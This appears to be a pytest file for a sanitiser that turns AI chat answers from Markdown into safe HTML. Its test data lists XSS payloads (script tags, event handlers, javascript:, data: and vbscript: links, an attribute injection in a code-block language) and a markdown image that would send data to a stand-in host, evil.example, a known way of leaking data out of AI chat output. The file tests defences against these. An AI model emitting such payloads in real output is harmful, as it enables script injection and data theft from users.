"""Chat answers as HTML: Markdown rendered, and nothing from the model that could run or leak."""

import pytest

from ai.markdown import markdown_html


def test_markdown_becomes_html():
    html = markdown_html("**bold** and *soft*\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n~~old~~")

    assert "<strong>bold</strong>" in html and "<em>soft</em>" in html
    assert "<ul>\n<li>one</li>" in html
    assert "<table>" in html and "<td>1</td>" in html
    assert "<s>old</s>" in html


def test_code_blocks_keep_their_language_and_escape_their_text():
    html = markdown_html("```python\nif a < b: print('<b>')\n```")

    assert '<pre><code class="language-python">' in html
    assert "if a &lt; b: print('&lt;b&gt;')" in html


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        '<img src="x" onerror="alert(1)">',
        '<a href="#" onclick="alert(1)">x</a>',
        "<iframe src='https://evil.example'></iframe>",
        '<div style="position:fixed;inset:0">covered</div>',
        "<svg onload=alert(1)>",
    ],
)
def test_raw_html_in_an_answer_is_shown_as_text(attack):
    html = markdown_html(f"Look: {attack}")

    for tag in ("<script", "<img", "<iframe", "<svg", "<div", "<a "):
        assert tag not in html
    assert "&lt;" in html


@pytest.mark.parametrize(
    "markdown",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:x)",
    ],
)
def test_links_with_script_schemes_are_not_links(markdown):
    assert "<a" not in markdown_html(markdown)


def test_images_are_dropped_so_a_url_cannot_carry_data_away():
    html = markdown_html("![secret](https://evil.example/collect?data=the-answer)")

    assert "<img" not in html and "evil.example" not in html


def test_web_links_open_without_a_referrer():
    html = markdown_html("See [the handbook](https://example.com/handbook).")

    assert '<a href="https://example.com/handbook" rel="noopener noreferrer nofollow">the handbook</a>' in html


def test_a_code_language_that_is_not_a_plain_word_is_dropped():
    html = markdown_html('```x"onmouseover="alert(1)\ncode\n```')

    assert html == "<pre><code>code\n</code></pre>\n"
